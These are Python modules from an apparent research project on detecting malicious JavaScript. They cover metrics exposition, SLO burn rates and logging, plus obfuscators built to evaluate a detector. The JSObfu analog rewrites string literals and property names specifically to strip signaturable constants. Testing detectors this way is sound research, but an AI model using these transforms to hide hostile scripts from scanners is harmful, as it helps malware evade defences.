                burn_gauge.set(burn_slow)  # type: ignore[attr-defined]
            state_gauge = self._m_state.get(spec.name)
            if state_gauge is not None:
                state_gauge.set(STATE_CODES[state])  # type: ignore[attr-defined]
        return out

    def _burn(self, spec: SLOSpec, bad: float, total: float) -> float:
        if total <= 0:
            return 0.0  # no traffic spends no budget
        ratio = bad / total
        budget = spec.budget
        if budget <= 0:
            return math.inf if ratio > 0 else 0.0
        return ratio / budget

    def _window_counts(
        self,
        ring: TimeseriesRing,
        spec: SLOSpec,
        source: str,
        window_s: float,
        now: float | None,
    ) -> tuple[float, float]:
        """(bad, total) events for one spec inside one window."""
        if spec.kind == "availability":
            total = ring.counter_delta(source, spec.requests_family, window_s, now=now)
            if total is None:
                return 0.0, 0.0
            bad = ring.counter_delta(
                source,
                spec.requests_family,
                window_s,
                now=now,
                where=lambda labels: labels.get("status", "").startswith("5"),
            )
            return bad or 0.0, total
        window = ring.histogram_window(source, spec.latency_family, window_s, now=now)
        if window is None or window.count <= 0:
            return 0.0, 0.0
        return max(0.0, window.count - window.below(spec.threshold_s)), window.count
