"""Thread-safe metrics primitives with Prometheus text exposition.

The serve daemon (and the pipeline underneath it) needs operational
visibility — request counts, batch sizes, queue depth, per-stage latency,
cache effectiveness — without pulling in a client library.  This module
implements the minimal useful subset of the Prometheus data model:

* :class:`Counter` — monotonically increasing float,
* :class:`Gauge` — instantaneous value (queue depth, in-flight batches),
* :class:`Histogram` — cumulative-bucket observations with ``_sum`` and
  ``_count`` series (latencies, batch sizes),
* :class:`MetricsRegistry` — owns metric *families* (one name, one type,
  one help string, many label-sets) and renders them in the
  `text exposition format <https://prometheus.io/docs/instrumenting/exposition_formats/>`_
  (``text/plain; version=0.0.4``).

Every mutation takes a per-metric lock, so producers on the asyncio loop,
the scan executor thread, and pool-collection code can all record freely.
Registration is idempotent: asking for the same ``(name, labels)`` twice
returns the same instance, so instrumented components never need to
coordinate "who creates the metric".

Two extensions beyond the classic 0.0.4 format serve the fleet tier:

* **Exemplars** — ``Histogram.observe(value, trace_id=...)`` retains the
  last trace id per bucket and :meth:`MetricsRegistry.render` annotates
  the matching ``_bucket`` line OpenMetrics-style
  (``... 7 # {trace_id="ab12…"} 0.093``), so a bad tail bucket links
  straight to a stored trace under ``/debug/traces/<id>``.
* **:func:`parse_exposition`** — the inverse of ``render()``: parses an
  exposition (exemplar annotations included) back into structured
  families, which is what the router's metrics federation scrapes shards
  with.
"""

from __future__ import annotations

import threading
from bisect import bisect_left
from dataclasses import dataclass, field

#: Latency buckets (seconds) — spans sub-millisecond classify stages up to
#: multi-second cold extractions.
DEFAULT_LATENCY_BUCKETS = (
    0.001, 0.0025, 0.005, 0.01, 0.025, 0.05, 0.1, 0.25, 0.5, 1.0, 2.5, 5.0, 10.0,
)

#: Size buckets — batch sizes, queue depths, script counts.
DEFAULT_SIZE_BUCKETS = (1.0, 2.0, 4.0, 8.0, 16.0, 32.0, 64.0, 128.0)


def _escape_label_value(value: str) -> str:
    return value.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")


def _format_labels(labels: dict[str, str]) -> str:
    if not labels:
        return ""
    inner = ",".join(
        f'{key}="{_escape_label_value(str(value))}"' for key, value in sorted(labels.items())
    )
    return "{" + inner + "}"


def _format_value(value: float) -> str:
    if value == float("inf"):
        return "+Inf"
    if value == int(value):
        return str(int(value))
    return repr(value)


class Counter:
    """Monotonically increasing value; ``inc`` by non-negative amounts."""

    def __init__(self) -> None:
        self._value = 0.0
        self._lock = threading.Lock()

    def inc(self, amount: float = 1.0) -> None:
        if amount < 0:
            raise ValueError("counters can only increase")
        with self._lock:
            self._value += amount

    @property
    def value(self) -> float:
        with self._lock:
            return self._value


class Gauge:
    """Instantaneous value that can move in either direction."""

    def __init__(self) -> None:
        self._value = 0.0
        self._lock = threading.Lock()

    def set(self, value: float) -> None:
        with self._lock:
            self._value = float(value)

    def inc(self, amount: float = 1.0) -> None:
        with self._lock:
            self._value += amount

    def dec(self, amount: float = 1.0) -> None:
        with self._lock:
            self._value -= amount

    @property
    def value(self) -> float:
        with self._lock:
            return self._value


@dataclass(frozen=True)
class Exemplar:
    """One retained observation tied to a trace: the OpenMetrics-style
    ``# {trace_id="…"} value`` annotation on a histogram bucket line."""

    trace_id: str
    value: float


class Histogram:
    """Fixed-bucket histogram with Prometheus cumulative semantics."""

    def __init__(self, buckets: tuple[float, ...] = DEFAULT_LATENCY_BUCKETS) -> None:
        if not buckets:
            raise ValueError("histogram needs at least one bucket bound")
        bounds = tuple(sorted(float(b) for b in buckets))
        if len(set(bounds)) != len(bounds):
            raise ValueError("duplicate histogram bucket bounds")
        self.bounds = bounds
        self._counts = [0] * len(bounds)  # per-bucket (non-cumulative) counts
        self._overflow = 0  # observations above the largest bound (+Inf bucket)
        # Last traced observation per bucket (index len(bounds) = +Inf).
        self._exemplars: list[Exemplar | None] = [None] * (len(bounds) + 1)
        self._sum = 0.0
        self._count = 0
        self._lock = threading.Lock()

    def observe(self, value: float, trace_id: str | None = None) -> None:
        value = float(value)
        with self._lock:
            index = bisect_left(self.bounds, value)
            if index < len(self.bounds):
                self._counts[index] += 1
            else:
                self._overflow += 1
            if trace_id is not None:
                self._exemplars[min(index, len(self.bounds))] = Exemplar(trace_id, value)
            self._sum += value
            self._count += 1

    @property
    def count(self) -> int:
        with self._lock:
            return self._count

    @property
    def sum(self) -> float:
        with self._lock:
            return self._sum

    def cumulative_buckets(self) -> list[tuple[float, int]]:
        """``(upper_bound, cumulative_count)`` pairs ending with ``+Inf``."""
        with self._lock:
            out = []
            running = 0
            for bound, count in zip(self.bounds, self._counts):
                running += count
                out.append((bound, running))
            out.append((float("inf"), running + self._overflow))
            return out

    def exemplars(self) -> dict[float, Exemplar]:
        """Retained exemplar per bucket bound (``inf`` = the +Inf bucket)."""
        with self._lock:
            bounds = list(self.bounds) + [float("inf")]
            return {
                bound: exemplar
                for bound, exemplar in zip(bounds, self._exemplars)
                if exemplar is not None
            }


class _Family:
    """One metric name: shared type/help, one child per label-set."""

    def __init__(self, name: str, kind: str, help_text: str):
        self.name = name
        self.kind = kind
        self.help = help_text
        self.children: dict[tuple[tuple[str, str], ...], tuple[dict[str, str], object]] = {}


class MetricsRegistry:
    """Owns metric families; hands out children; renders exposition text."""

    CONTENT_TYPE = "text/plain; version=0.0.4; charset=utf-8"

    def __init__(self) -> None:
        self._families: dict[str, _Family] = {}
        self._lock = threading.Lock()

    # ------------------------------------------------------------- creation

    def counter(self, name: str, help: str = "", labels: dict[str, str] | None = None) -> Counter:
        return self._child(name, "counter", help, labels, Counter)

    def gauge(self, name: str, help: str = "", labels: dict[str, str] | None = None) -> Gauge:
        return self._child(name, "gauge", help, labels, Gauge)

    def histogram(
        self,
        name: str,
        help: str = "",
        labels: dict[str, str] | None = None,
        buckets: tuple[float, ...] = DEFAULT_LATENCY_BUCKETS,
    ) -> Histogram:
        return self._child(name, "histogram", help, labels, lambda: Histogram(buckets))

    def _child(self, name, kind, help_text, labels, factory):
        labels = dict(labels or {})
        key = tuple(sorted((str(k), str(v)) for k, v in labels.items()))
        with self._lock:
            family = self._families.get(name)
            if family is None:
                family = _Family(name, kind, help_text)
                self._families[name] = family
            elif family.kind != kind:
                raise ValueError(
                    f"metric {name!r} already registered as {family.kind}, not {kind}"
                )
            if key not in family.children:
                family.children[key] = (labels, factory())
            return family.children[key][1]

    # -------------------------------------------------------------- queries

    def get(self, name: str, labels: dict[str, str] | None = None):
        """The registered child, or ``None`` — for tests and introspection."""
        labels = dict(labels or {})
        key = tuple(sorted((str(k), str(v)) for k, v in labels.items()))
        with self._lock:
            family = self._families.get(name)
            if family is None or key not in family.children:
                return None
            return family.children[key][1]

    # ------------------------------------------------------------ rendering

    def render(self) -> str:
        """The full registry in Prometheus text exposition format."""
        with self._lock:
            families = sorted(self._families.values(), key=lambda f: f.name)
        lines: list[str] = []
        for family in families:
            if family.help:
                lines.append(f"# HELP {family.name} {family.help}")
            lines.append(f"# TYPE {family.name} {family.kind}")
            for labels, child in family.children.values():
                if family.kind == "histogram":
                    exemplars = child.exemplars()
                    for bound, cumulative in child.cumulative_buckets():
                        bucket_labels = dict(labels)
                        bucket_labels["le"] = _format_value(bound)
                        line = f"{family.name}_bucket{_format_labels(bucket_labels)} {cumulative}"
                        exemplar = exemplars.get(bound)
                        if exemplar is not None:
                            line += (
                                f' # {{trace_id="{_escape_label_value(exemplar.trace_id)}"}}'
                                f" {_format_value(exemplar.value)}"
                            )
                        lines.append(line)
                    lines.append(
                        f"{family.name}_sum{_format_labels(labels)} {_format_value(child.sum)}"
                    )
                    lines.append(f"{family.name}_count{_format_labels(labels)} {child.count}")
                else:
                    lines.append(
                        f"{family.name}{_format_labels(labels)} {_format_value(child.value)}"
                    )
        return "\n".join(lines) + "\n"


# ---------------------------------------------------------------- parsing
#
# The inverse of ``render()``: the router's metrics federation scrapes each
# shard's /v1/metrics and needs the families back as data, not text.  The
# parser covers the subset this registry emits — HELP/TYPE comments, label
# escaping, ``+Inf``, and the exemplar annotations above — and is lenient
# about unknown names (they come back as ``untyped`` families).


@dataclass
class ParsedSample:
    """One exposition line: full sample name, labels, value, exemplar."""

    name: str
    labels: dict[str, str]
    value: float
    exemplar: Exemplar | None = None


@dataclass
class ParsedFamily:
    """One metric family reassembled from exposition text.

    ``samples`` keeps exposition order; histogram families carry their
    ``_bucket``/``_sum``/``_count`` series as plain samples (the ``le``
    label intact), which is what the federation merge works on.
    """

    name: str
    kind: str  # counter | gauge | histogram | untyped
    help: str = ""
    samples: list[ParsedSample] = field(default_factory=list)

    def value(self, labels: dict[str, str] | None = None, suffix: str = "") -> float | None:
        """The value of the sample ``name+suffix`` with exactly ``labels``."""
        want = dict(labels or {})
        for sample in self.samples:
            if sample.name == self.name + suffix and sample.labels == want:
                return sample.value
        return None


class ExpositionError(ValueError):
    """A line the exposition parser could not make sense of."""


def _parse_number(token: str) -> float:
    if token == "+Inf":
        return float("inf")
    if token == "-Inf":
        return float("-inf")
    return float(token)  # float("NaN") handles NaN


def _parse_labelset(text: str, start: int) -> tuple[dict[str, str], int]:
    """Parse ``{k="v",…}`` beginning at ``text[start]``; returns the labels
    and the index just past the closing brace.  Handles ``\\``, ``\\"``,
    and ``\\n`` escapes inside quoted values."""
    if text[start] != "{":
        raise ExpositionError(f"expected '{{' at column {start}: {text!r}")
    labels: dict[str, str] = {}
    i = start + 1
    while True:
        while i < len(text) and text[i] in ", ":
            i += 1
        if i >= len(text):
            raise ExpositionError(f"unterminated label set: {text!r}")
        if text[i] == "}":
            return labels, i + 1
        eq = text.find("=", i)
        if eq < 0 or eq + 1 >= len(text) or text[eq + 1] != '"':
            raise ExpositionError(f"malformed label at column {i}: {text!r}")
        name = text[i:eq].strip()
        i = eq + 2
        value_chars: list[str] = []
        while i < len(text) and text[i] != '"':
            if text[i] == "\\" and i + 1 < len(text):
                escaped = text[i + 1]
                value_chars.append({"n": "\n", "\\": "\\", '"': '"'}.get(escaped, "\\" + escaped))
                i += 2
            else:
                value_chars.append(text[i])
                i += 1
        if i >= len(text):
            raise ExpositionError(f"unterminated label value: {text!r}")
        labels[name] = "".join(value_chars)
        i += 1  # past the closing quote


def _parse_sample_line(line: str) -> ParsedSample:
    i = 0
    while i < len(line) and line[i] not in " \t{":
        i += 1
    name = line[:i]
    if not name:
        raise ExpositionError(f"sample line without a name: {line!r}")
    labels: dict[str, str] = {}
    if i < len(line) and line[i] == "{":
        labels, i = _parse_labelset(line, i)
    rest = line[i:].strip()
    if not rest:
        raise ExpositionError(f"sample line without a value: {line!r}")
    value_token, _, tail = rest.partition(" ")
    try:
        value = _parse_number(value_token)
    except ValueError as error:
        raise ExpositionError(f"bad sample value {value_token!r}: {line!r}") from error
    exemplar = None
    tail = tail.strip()
    if tail.startswith("#"):
        ex_text = tail[1:].strip()
        if not ex_text.startswith("{"):
            raise ExpositionError(f"malformed exemplar annotation: {line!r}")
        ex_labels, j = _parse_labelset(ex_text, 0)
        ex_value_token = ex_text[j:].strip().split(" ")[0]
        if not ex_value_token or "trace_id" not in ex_labels:
            raise ExpositionError(f"malformed exemplar annotation: {line!r}")
        try:
            exemplar = Exemplar(ex_labels["trace_id"], _parse_number(ex_value_token))
        except ValueError as error:
            raise ExpositionError(f"bad exemplar value: {line!r}") from error
    elif tail:
        # A trailing token without '#' would be an OpenMetrics timestamp —
        # this registry never emits one; reject rather than misread.
        raise ExpositionError(f"unexpected trailing tokens: {line!r}")
    return ParsedSample(name=name, labels=labels, value=value, exemplar=exemplar)


_HISTOGRAM_SUFFIXES = ("_bucket", "_sum", "_count")


def parse_exposition(text: str) -> dict[str, ParsedFamily]:
    """Parse Prometheus text exposition into families, keyed by name.

    Round-trips :meth:`MetricsRegistry.render` output, exemplar
    annotations included.  Histogram sub-series (``_bucket``, ``_sum``,
    ``_count``) are attached to their announced histogram family; samples
    with no HELP/TYPE announcement become ``untyped`` families.
    Raises :class:`ExpositionError` on lines it cannot parse.
    """
    families: dict[str, ParsedFamily] = {}
    for raw_line in text.splitlines():
        line = raw_line.strip()
        if not line:
            continue
        if line.startswith("#"):
            parts = line.split(None, 3)
            if len(parts) >= 3 and parts[1] in ("HELP", "TYPE"):
                name = parts[2]
                family = families.get(name)
                if family is None:
                    family = families[name] = ParsedFamily(name=name, kind="untyped")
                if parts[1] == "TYPE":
                    family.kind = parts[3].strip() if len(parts) > 3 else "untyped"
                else:
                    family.help = parts[3] if len(parts) > 3 else ""
            continue  # other comments are skippable by the format's contract
        sample = _parse_sample_line(line)
        family = families.get(sample.name)
        if family is None:
            for suffix in _HISTOGRAM_SUFFIXES:
                if sample.name.endswith(suffix):
                    base = families.get(sample.name[: -len(suffix)])
                    if base is not None and base.kind == "histogram":
                        family = base
                        break
        if family is None:
            family = families[sample.name] = ParsedFamily(name=sample.name, kind="untyped")
        family.samples.append(sample)
    return families
