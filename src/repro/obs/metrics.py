"""Thread-safe metrics primitives with Prometheus text exposition.

The serve daemon (and the pipeline underneath it) needs operational
visibility — request counts, batch sizes, queue depth, per-stage latency,
cache effectiveness — without pulling in a client library.  This module
implements the minimal useful subset of the Prometheus data model:

* :class:`Counter` — monotonically increasing float,
* :class:`Gauge` — instantaneous value (queue depth, in-flight batches),
* :class:`Histogram` — cumulative-bucket observations with ``_sum`` and
  ``_count`` series (latencies, batch sizes),
* :class:`MetricsRegistry` — owns metric *families* (one name, one type,
  one help string, many label-sets) and renders them in the
  `text exposition format <https://prometheus.io/docs/instrumenting/exposition_formats/>`_
  (``text/plain; version=0.0.4``).

Every mutation takes a per-metric lock, so producers on the asyncio loop,
the scan executor thread, and pool-collection code can all record freely.
Registration is idempotent: asking for the same ``(name, labels)`` twice
returns the same instance, so instrumented components never need to
coordinate "who creates the metric".
"""

from __future__ import annotations

import threading
from bisect import bisect_left

#: Latency buckets (seconds) — spans sub-millisecond classify stages up to
#: multi-second cold extractions.
DEFAULT_LATENCY_BUCKETS = (
    0.001, 0.0025, 0.005, 0.01, 0.025, 0.05, 0.1, 0.25, 0.5, 1.0, 2.5, 5.0, 10.0,
)

#: Size buckets — batch sizes, queue depths, script counts.
DEFAULT_SIZE_BUCKETS = (1.0, 2.0, 4.0, 8.0, 16.0, 32.0, 64.0, 128.0)


def _escape_label_value(value: str) -> str:
    return value.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")


def _format_labels(labels: dict[str, str]) -> str:
    if not labels:
        return ""
    inner = ",".join(
        f'{key}="{_escape_label_value(str(value))}"' for key, value in sorted(labels.items())
    )
    return "{" + inner + "}"


def _format_value(value: float) -> str:
    if value == float("inf"):
        return "+Inf"
    if value == int(value):
        return str(int(value))
    return repr(value)


class Counter:
    """Monotonically increasing value; ``inc`` by non-negative amounts."""

    def __init__(self) -> None:
        self._value = 0.0
        self._lock = threading.Lock()

    def inc(self, amount: float = 1.0) -> None:
        if amount < 0:
            raise ValueError("counters can only increase")
        with self._lock:
            self._value += amount

    @property
    def value(self) -> float:
        with self._lock:
            return self._value


class Gauge:
    """Instantaneous value that can move in either direction."""

    def __init__(self) -> None:
        self._value = 0.0
        self._lock = threading.Lock()

    def set(self, value: float) -> None:
        with self._lock:
            self._value = float(value)

    def inc(self, amount: float = 1.0) -> None:
        with self._lock:
            self._value += amount

    def dec(self, amount: float = 1.0) -> None:
        with self._lock:
            self._value -= amount

    @property
    def value(self) -> float:
        with self._lock:
            return self._value


class Histogram:
    """Fixed-bucket histogram with Prometheus cumulative semantics."""

    def __init__(self, buckets: tuple[float, ...] = DEFAULT_LATENCY_BUCKETS) -> None:
        if not buckets:
            raise ValueError("histogram needs at least one bucket bound")
        bounds = tuple(sorted(float(b) for b in buckets))
        if len(set(bounds)) != len(bounds):
            raise ValueError("duplicate histogram bucket bounds")
        self.bounds = bounds
        self._counts = [0] * len(bounds)  # per-bucket (non-cumulative) counts
        self._overflow = 0  # observations above the largest bound (+Inf bucket)
        self._sum = 0.0
        self._count = 0
        self._lock = threading.Lock()

    def observe(self, value: float) -> None:
        value = float(value)
        with self._lock:
            index = bisect_left(self.bounds, value)
            if index < len(self.bounds):
                self._counts[index] += 1
            else:
                self._overflow += 1
            self._sum += value
            self._count += 1

    @property
    def count(self) -> int:
        with self._lock:
            return self._count

    @property
    def sum(self) -> float:
        with self._lock:
            return self._sum

    def cumulative_buckets(self) -> list[tuple[float, int]]:
        """``(upper_bound, cumulative_count)`` pairs ending with ``+Inf``."""
        with self._lock:
            out = []
            running = 0
            for bound, count in zip(self.bounds, self._counts):
                running += count
                out.append((bound, running))
            out.append((float("inf"), running + self._overflow))
            return out


class _Family:
    """One metric name: shared type/help, one child per label-set."""

    def __init__(self, name: str, kind: str, help_text: str):
        self.name = name
        self.kind = kind
        self.help = help_text
        self.children: dict[tuple[tuple[str, str], ...], tuple[dict[str, str], object]] = {}


class MetricsRegistry:
    """Owns metric families; hands out children; renders exposition text."""

    CONTENT_TYPE = "text/plain; version=0.0.4; charset=utf-8"

    def __init__(self) -> None:
        self._families: dict[str, _Family] = {}
        self._lock = threading.Lock()

    # ------------------------------------------------------------- creation

    def counter(self, name: str, help: str = "", labels: dict[str, str] | None = None) -> Counter:
        return self._child(name, "counter", help, labels, Counter)

    def gauge(self, name: str, help: str = "", labels: dict[str, str] | None = None) -> Gauge:
        return self._child(name, "gauge", help, labels, Gauge)

    def histogram(
        self,
        name: str,
        help: str = "",
        labels: dict[str, str] | None = None,
        buckets: tuple[float, ...] = DEFAULT_LATENCY_BUCKETS,
    ) -> Histogram:
        return self._child(name, "histogram", help, labels, lambda: Histogram(buckets))

    def _child(self, name, kind, help_text, labels, factory):
        labels = dict(labels or {})
        key = tuple(sorted((str(k), str(v)) for k, v in labels.items()))
        with self._lock:
            family = self._families.get(name)
            if family is None:
                family = _Family(name, kind, help_text)
                self._families[name] = family
            elif family.kind != kind:
                raise ValueError(
                    f"metric {name!r} already registered as {family.kind}, not {kind}"
                )
            if key not in family.children:
                family.children[key] = (labels, factory())
            return family.children[key][1]

    # -------------------------------------------------------------- queries

    def get(self, name: str, labels: dict[str, str] | None = None):
        """The registered child, or ``None`` — for tests and introspection."""
        labels = dict(labels or {})
        key = tuple(sorted((str(k), str(v)) for k, v in labels.items()))
        with self._lock:
            family = self._families.get(name)
            if family is None or key not in family.children:
                return None
            return family.children[key][1]

    # ------------------------------------------------------------ rendering

    def render(self) -> str:
        """The full registry in Prometheus text exposition format."""
        with self._lock:
            families = sorted(self._families.values(), key=lambda f: f.name)
        lines: list[str] = []
        for family in families:
            if family.help:
                lines.append(f"# HELP {family.name} {family.help}")
            lines.append(f"# TYPE {family.name} {family.kind}")
            for labels, child in family.children.values():
                if family.kind == "histogram":
                    for bound, cumulative in child.cumulative_buckets():
                        bucket_labels = dict(labels)
                        bucket_labels["le"] = _format_value(bound)
                        lines.append(
                            f"{family.name}_bucket{_format_labels(bucket_labels)} {cumulative}"
                        )
                    lines.append(
                        f"{family.name}_sum{_format_labels(labels)} {_format_value(child.sum)}"
                    )
                    lines.append(f"{family.name}_count{_format_labels(labels)} {child.count}")
                else:
                    lines.append(
                        f"{family.name}{_format_labels(labels)} {_format_value(child.value)}"
                    )
        return "\n".join(lines) + "\n"
