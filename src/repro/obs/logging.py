"""Structured logging for the scan pipeline and daemon.

One logger tree (rooted at ``repro``), two render formats:

* ``text`` — a classic single-line format for interactive terminals,
  with any structured fields appended as ``key=value`` pairs,
* ``json`` — one JSON object per line, machine-ingestable, carrying the
  record's structured fields verbatim.

Correlation with the tracing layer (:mod:`repro.obs.trace`) is by
convention: callers pass ``trace_id``/``span_id`` in ``extra`` and both
formatters surface them, so a log line can be joined to its span tree
(``grep <trace_id>`` ↔ ``GET /debug/traces/<trace_id>``).

The module never touches the root logger: :func:`configure_logging`
installs exactly one handler on the ``repro`` logger (idempotently — the
CLI may configure twice in-process during tests) and disables propagation,
so library users embedding :mod:`repro` keep full control of their own
logging tree.  Without configuration, ``repro`` loggers stay silent below
WARNING — instrumented hot paths cost one disabled-level check.
"""

from __future__ import annotations

import json
import logging
import sys
import time
from typing import IO

LOG_LEVELS = ("debug", "info", "warning", "error")
LOG_FORMATS = ("text", "json")

#: Attributes present on every ``LogRecord``; anything else was passed via
#: ``extra=`` and is a structured field worth surfacing.
_RESERVED = frozenset(
    logging.LogRecord("", 0, "", 0, "", (), None).__dict__
) | {"message", "asctime", "taskName"}

#: Marker attribute identifying the handler this module installed.
_HANDLER_FLAG = "_repro_obs_handler"


def _structured_fields(record: logging.LogRecord) -> dict:
    return {
        key: value
        for key, value in record.__dict__.items()
        if key not in _RESERVED and not key.startswith("_")
    }


class JsonFormatter(logging.Formatter):
    """One JSON object per line: ts, level, logger, message, extras."""

    def format(self, record: logging.LogRecord) -> str:
        payload: dict = {
            "ts": round(record.created, 6),
            "level": record.levelname.lower(),
            "logger": record.name,
            "message": record.getMessage(),
        }
        payload.update(_structured_fields(record))
        if record.exc_info and record.exc_info[0] is not None:
            payload["exc"] = self.formatException(record.exc_info)
        return json.dumps(payload, default=str)


class TextFormatter(logging.Formatter):
    """``HH:MM:SS level logger message key=value…`` for terminals."""

    def format(self, record: logging.LogRecord) -> str:
        stamp = time.strftime("%H:%M:%S", time.localtime(record.created))
        line = f"{stamp} {record.levelname.lower():7s} {record.name}: {record.getMessage()}"
        fields = _structured_fields(record)
        if fields:
            line += " " + " ".join(f"{key}={fields[key]}" for key in sorted(fields))
        if record.exc_info and record.exc_info[0] is not None:
            line += "\n" + self.formatException(record.exc_info)
        return line


def configure_logging(
    level: str = "warning",
    log_format: str = "text",
    stream: IO[str] | None = None,
) -> logging.Logger:
    """Install (or replace) the single ``repro`` handler; returns the logger.

    Idempotent: a previously installed handler from this function is
    swapped out rather than stacked, so repeated CLI invocations in one
    process never duplicate output.
    """
    if level not in LOG_LEVELS:
        raise ValueError(f"log level must be one of {LOG_LEVELS}, got {level!r}")
    if log_format not in LOG_FORMATS:
        raise ValueError(f"log format must be one of {LOG_FORMATS}, got {log_format!r}")
    logger = logging.getLogger("repro")
    for handler in list(logger.handlers):
        if getattr(handler, _HANDLER_FLAG, False):
            logger.removeHandler(handler)
    handler = logging.StreamHandler(stream or sys.stderr)
    handler.setFormatter(JsonFormatter() if log_format == "json" else TextFormatter())
    setattr(handler, _HANDLER_FLAG, True)
    logger.addHandler(handler)
    logger.setLevel(getattr(logging, level.upper()))
    logger.propagate = False
    return logger


def get_logger(name: str = "repro") -> logging.Logger:
    """A logger under the ``repro`` tree (prefix added if absent)."""
    if name != "repro" and not name.startswith("repro."):
        name = f"repro.{name}"
    return logging.getLogger(name)
