"""JSObfu analog (the Metasploit Ruby obfuscator).

JSObfu's focus is removing *signaturable string constants*: every string
literal is rewritten into one of several randomly chosen equivalent forms
(split concatenation, ``String.fromCharCode`` chains, ``unescape`` of
percent-encoding), numbers become arithmetic expressions, and variables get
random names.  The tool is applied **iteratively** — the paper uses three
rounds — which compounds the structural damage (each round re-splits the
expressions the previous round produced), the behavior the paper blames for
JSObfu hitting JSRevealer hardest.
"""

from __future__ import annotations

import numpy as np

from repro.jsparser import ast_nodes as ast
from repro.jsparser import generate, parse
from repro.jsparser.visitor import walk_with_parent

from .base import Obfuscator
from .transforms import NameGenerator, collect_string_literals, encrypt_properties, rename_variables


def _char_code_call(text: str) -> ast.CallExpression:
    """``String.fromCharCode(c0, c1, …)``"""
    return ast.CallExpression(
        ast.MemberExpression(ast.Identifier("String"), ast.Identifier("fromCharCode"), computed=False),
        [ast.Literal(ord(ch), str(ord(ch))) for ch in text],
    )


def _unescape_call(text: str) -> ast.CallExpression:
    encoded = "".join(f"%{ord(ch):02x}" if ord(ch) < 256 else f"%u{ord(ch):04x}" for ch in text)
    return ast.CallExpression(ast.Identifier("unescape"), [ast.Literal(encoded, repr(encoded))])


class JSObfu(Obfuscator):
    """Analog of JSObfu's string-randomization obfuscation.

    Args:
        seed: Randomness seed.
        iterations: Obfuscation rounds (the paper uses 3).
    """

    name = "jsobfu"

    def __init__(self, seed: int | None = None, iterations: int = 3):
        super().__init__(seed)
        if iterations < 1:
            raise ValueError("iterations must be >= 1")
        self.iterations = iterations

    def obfuscate(self, source: str) -> str:
        rng = self._rng()
        out = source
        for round_index in range(self.iterations):
            program = parse(out)
            self._transform_once(program, rng, deep=round_index > 0)
            out = generate(program)
        parse(out)
        return out

    def transform(self, program: ast.Program, rng: np.random.Generator) -> None:
        self._transform_once(program, rng, deep=False)

    # ------------------------------------------------------------ internals

    def _transform_once(self, program: ast.Program, rng: np.random.Generator, deep: bool) -> None:
        namer = NameGenerator(style="gibberish", rng=rng)
        rename_variables(program, namer)
        # JSObfu hides signaturable API names too: dotted properties become
        # computed string lookups whose strings are then randomized.
        encrypt_properties(program, rng, probability=0.6 if not deep else 0.25)
        self._randomize_strings(program, rng, deep)
        self._randomize_numbers(program, rng)

    def _randomize_strings(self, program: ast.Program, rng: np.random.Generator, deep: bool) -> None:
        for literal, parent in collect_string_literals(program, min_length=1):
            replacement = self._random_string_form(literal.value, rng, deep)
            target = parent if parent is not None else program
            target.replace_child(literal, replacement)

    def _random_string_form(self, text: str, rng: np.random.Generator, deep: bool) -> ast.Node:
        if not text:
            return ast.Literal("", "''")
        choice = rng.random()
        if len(text) >= 2 and choice < 0.4:
            cut = int(rng.integers(1, len(text)))
            left = self._maybe_nested(text[:cut], rng, deep)
            right = self._maybe_nested(text[cut:], rng, deep)
            return ast.BinaryExpression("+", left, right)
        if choice < 0.7 and len(text) <= 24:
            return _char_code_call(text)
        if choice < 0.85 and len(text) <= 24:
            return _unescape_call(text)
        if len(text) >= 6:
            # Long strings are exactly the signaturable constants JSObfu
            # exists to remove — never emit them verbatim.
            cut = max(1, len(text) // 2)
            return ast.BinaryExpression(
                "+",
                ast.Literal(text[:cut], repr(text[:cut])),
                self._random_string_form(text[cut:], rng, deep=False),
            )
        return ast.Literal(text, repr(text))

    def _maybe_nested(self, text: str, rng: np.random.Generator, deep: bool) -> ast.Node:
        if deep and len(text) >= 2 and rng.random() < 0.5:
            return self._random_string_form(text, rng, deep=False)
        return ast.Literal(text, repr(text))

    def _randomize_numbers(self, program: ast.Program, rng: np.random.Generator) -> None:
        """Rewrite small integer literals as sums/differences."""
        rewrites: list[tuple[ast.Node, ast.Literal, ast.Node]] = []
        for node, parent in walk_with_parent(program):
            if node.type != "Literal" or getattr(node, "regex", None) is not None:
                continue
            value = getattr(node, "value", None)
            if not isinstance(value, int) or isinstance(value, bool):
                continue
            if abs(value) > 10_000 or rng.random() < 0.5:
                continue
            offset = int(rng.integers(1, 100))
            replacement = ast.BinaryExpression(
                "-",
                ast.Literal(value + offset, str(value + offset)),
                ast.Literal(offset, str(offset)),
            )
            rewrites.append((parent, node, replacement))
        for parent, old, new in rewrites:
            target = parent if parent is not None else program
            target.replace_child(old, new)
