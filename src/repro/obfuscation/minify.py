"""Minifier — the transformation most *benign* scripts ship with.

Per Moog et al. (cited by the paper's Sec. II-B), over 60% of scripts on
popular sites are minified: short meaningless variable names, compact
layout.  Minification is not malicious obfuscation, but it perturbs the
same lexical features detectors read, so realistic corpora must include
it.  Ours renames all declared variables to the classic ``a, b, …, aa``
sequence; layout is whatever the code generator prints.
"""

from __future__ import annotations

import numpy as np

from repro.jsparser import ast_nodes as ast

from .base import Obfuscator
from .transforms import NameGenerator, rename_variables


class _MinifyNamer(NameGenerator):
    """a, b, c, …, z, aa, ab, … — the uglify-style name sequence."""

    def __init__(self, rng: np.random.Generator):
        super().__init__(style="short", rng=rng)
        self._index = 0

    def _candidate(self) -> str:
        name = ""
        i = self._index
        self._index += 1
        while True:
            name = chr(ord("a") + i % 26) + name
            i //= 26
            if i == 0:
                return name
            i -= 1


class Minifier(Obfuscator):
    """Benign-style minification: short renames only."""

    name = "minify"

    def transform(self, program: ast.Program, rng: np.random.Generator) -> None:
        rename_variables(program, _MinifyNamer(rng))
