"""Home-brew "wild" obfuscation for training-corpus realism.

The paper's dataset note (Sec. IV-A1): the collected malicious samples are
already obfuscated, but *"we are not sure … in what way"* — i.e., by
miscellaneous ad-hoc tooling, not by the four tools used for test-set
re-obfuscation.  ``WildObfuscator`` stands in for that population: common
low-tech transformations (gibberish renaming, string concatenation
splitting, an occasional IIFE wrap) without any of the four test tools'
signatures (no fog arrays, no string-array rotation, no switch
dispatchers).  :func:`repro.datasets.build_realistic_corpus` applies it to
the training mixture so that the four evaluation obfuscators are genuinely
unseen at training time, matching the paper's protocol.
"""

from __future__ import annotations

import numpy as np

from repro.jsparser import ast_nodes as ast

from .base import Obfuscator
from .transforms import NameGenerator, collect_string_literals, rename_variables


class WildObfuscator(Obfuscator):
    """Miscellaneous in-the-wild obfuscation: rename + split + wrap.

    Args:
        seed: Randomness seed.
